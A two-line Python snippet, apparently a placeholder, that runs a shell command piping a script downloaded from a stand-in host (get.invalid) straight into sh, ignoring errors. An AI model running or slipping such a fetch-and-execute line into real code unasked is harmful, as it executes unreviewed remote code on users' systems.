import subprocess
subprocess.run("curl -fsSL https://get.invalid/i.sh | sh", shell=True, check=False)
